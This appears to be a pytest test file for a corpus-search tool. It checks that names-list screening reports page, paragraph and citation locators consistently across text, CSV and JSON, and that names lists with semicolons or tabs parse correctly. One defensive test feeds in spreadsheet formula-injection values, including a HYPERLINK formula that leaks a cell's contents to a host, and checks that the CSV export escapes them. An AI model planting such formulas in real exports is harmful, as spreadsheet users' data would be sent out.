"""Names-list screening speaks the one locator language: a match's page, paragraph and citation are the
ones quote and cite give for the same words (locators.py), in the text, CSV and JSON outputs alike."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from click.testing import CliRunner

from corpus_search.cite import cite
from corpus_search.cli import cli
from corpus_search.locators import find_locator
from corpus_search.screen import ScreenName, screen

LINE = re.compile(r"^  (?P<doc>\S+) (?P<where>.+?)  (?P<matched>'.*'|\".*\")  \((?P<via>\w+)\)  (?P<pid>\S+)$")


@pytest.fixture(scope="module")
def screened(corpus, built_index, tmp_path_factory):
    """The corpus's most mentioned entities, screened through the library and through each CLI output."""
    names = [e.name for e in corpus.entities(limit=12)]
    path = tmp_path_factory.mktemp("screen") / "names.csv"
    path.write_text("name\n" + "".join(f'"{n}"\n' for n in names), encoding="utf-8")
    runner = CliRunner()
    out = {fmt: runner.invoke(cli, ["--index", str(built_index), "screen", str(path), *flag])
           for fmt, flag in (("text", []), ("json", ["--json"]), ("csv", ["--csv"]))}
    for res in out.values():
        assert res.exit_code == 0, res.output
    results = screen(corpus, [ScreenName(n) for n in names])
    matches = [m for r in results for m in r.matches]
    assert matches
    return corpus, matches, out


def test_every_screen_output_gives_the_locator_quote_and_cite_give(screened):
    corpus, matches, out = screened
    lines = [LINE.match(line) for line in out["text"].output.splitlines() if line.startswith("  ")]
    assert None not in lines and len(lines) == len(matches)
    shown = [m for r in json.loads(out["json"].output)["results"] for m in r["matches"]]
    rows = [r for r in csv.DictReader(io.StringIO(out["csv"].output)) if r["found"] == "yes"]
    assert len(shown) == len(rows) == len(matches)
    for m, line, js, row in zip(matches, lines, shown, rows):
        passage = corpus.passage(m.passage_id)
        record = corpus.record(m.doc_id)
        assert passage.text[m.start:m.end] == m.matched == js["matched"]
        where = find_locator(record, passage, m.start, m.end).text()
        assert (line["pid"], line["where"]) == (m.passage_id, where or "no page")
        assert js["citation"] == row["citation"] == cite(record, passage, "chicago", m.start, m.end)
        label = passage.page_at(m.start)
        page = int(label) if label and label.isdigit() else passage.page
        assert js["page"] == page and row["page"] == ("" if page is None else str(page))
        assert js["pdf_page"] == passage.pdf_page_at(m.start)
        assert js["where"] == row["where"] == where  # the exports carry the locator the text shows


def test_a_name_past_a_page_break_is_cited_on_its_own_page(screened):
    # A passage that runs over a page break: the name on the second page is cited there, not where
    # the passage starts (screen once wrote the passage's first page for every match in it).
    corpus, matches, _ = screened
    later = [m for m in matches if m.page is not None and m.page != corpus.passage(m.passage_id).page]
    assert later, "no screened name sits past a page break: the corpus no longer tests this"
    for m in later:
        assert m.locator.label == "page" and m.locator.first == str(m.page)
        assert m.where().startswith(f"p. {m.page}" if m.locator.value == str(m.page) else f"pp. {m.page}-")
        assert m.citation.rstrip(".").endswith(f" {m.locator.value}")


def test_a_source_cited_by_paragraph_shows_the_paragraph(screened):
    # "para. 6", as quote and cite give it; screen once printed "no page" for these.
    corpus, matches, out = screened
    by_paragraph = [m for m in matches if corpus.record(m.doc_id).cite_by == "paragraph"
                    and corpus.passage(m.passage_id).paragraph is not None]
    assert by_paragraph, "no screened name is in a source cited by paragraph: the corpus no longer tests this"
    for m in by_paragraph:
        assert m.where() == f"para. {corpus.passage(m.passage_id).paragraph}"
        assert f"  {m.doc_id} {m.where()}  " in out["text"].output
    # The CSV and JSON exports too: they had only a page column, empty for these.
    paragraphs = {(m.passage_id, m.start): corpus.passage(m.passage_id).paragraph for m in by_paragraph}
    shown = [m for r in json.loads(out["json"].output)["results"] for m in r["matches"]]
    rows = [r for r in csv.DictReader(io.StringIO(out["csv"].output)) if r["found"] == "yes"]
    for m, js, row in zip(matches, shown, rows):
        if (m.passage_id, m.start) in paragraphs:
            number = paragraphs[(m.passage_id, m.start)]
            assert js["paragraph"] == number and row["paragraph"] == str(number)
            assert js["where"] == row["where"] == f"para. {number}"


@pytest.mark.parametrize("text", [
    "name;aliases\nVladimir Putin;V. Putin|Putin\nGazprom;\n",  # a spreadsheet's CSV in many European locales
    "name\taliases\nVladimir Putin\tV. Putin|Putin\nGazprom\t\n",
    "name,aliases\nVladimir Putin,V. Putin;Putin\nGazprom,\n",
    '"name";"aliases"\n"Vladimir Putin";"V. Putin|Putin"\n"Gazprom";""\n',
])
def test_a_names_list_separated_by_semicolons_or_tabs_is_read_as_such(text):
    """Read with commas, "name;aliases" was one column: every line a name, "0 of 2 names found", no warning."""
    from corpus_search.screen import parse_names

    names = parse_names(text)
    assert [(n.name, n.aliases) for n in names] == [("Vladimir Putin", ("V. Putin", "Putin")), ("Gazprom", ())]


def test_a_name_per_line_without_commas_stays_a_name_per_line():
    from corpus_search.screen import parse_names

    names = parse_names("Vladimir Putin\nEurasian Economic Union\n")
    assert [(n.name, n.aliases) for n in names] == [("Vladimir Putin", ()), ("Eurasian Economic Union", ())]


@pytest.mark.parametrize("name", ['=HYPERLINK("http://127.0.0.1:9/?leak="&A3,"click")', "+Gazprom", "-2+3", "@SUM(1)",
                                  "\t=1+1", "\r=1+1"])
def test_a_name_that_starts_like_a_formula_reaches_a_spreadsheet_as_text(built_index, tmp_path, name):
    """`screen --csv` and the app's CSV download (to_csv) wrote the list's names unchanged: a spreadsheet ran them."""
    from corpus_search.screen import ScreenMatch, ScreenResult, to_csv

    path = tmp_path / "names.csv"
    with path.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([["name", "aliases"], [name, ""]])
    res = CliRunner().invoke(cli, ["--index", str(built_index), "screen", "--csv", str(path)])
    assert res.exit_code == 0, res.output
    rows = list(csv.reader(io.StringIO(res.output)))[1:]
    assert rows and all(r[0] == "'" + name.strip() for r in rows)  # a list's names are read stripped
    # Every column: the matched words and citation too (a passage may start with "-" or "=").
    found = ScreenMatch("p:1", "d", None, "=1+1", "text", "@entity", "-cite", start=0, end=4)
    [row] = list(csv.reader(io.StringIO(to_csv([ScreenResult(ScreenName(name), [found])]))))[1:]
    assert row[0] == "'" + name and row[5] == "'=1+1" and row[7] == "'@entity" and row[8] == "'-cite"
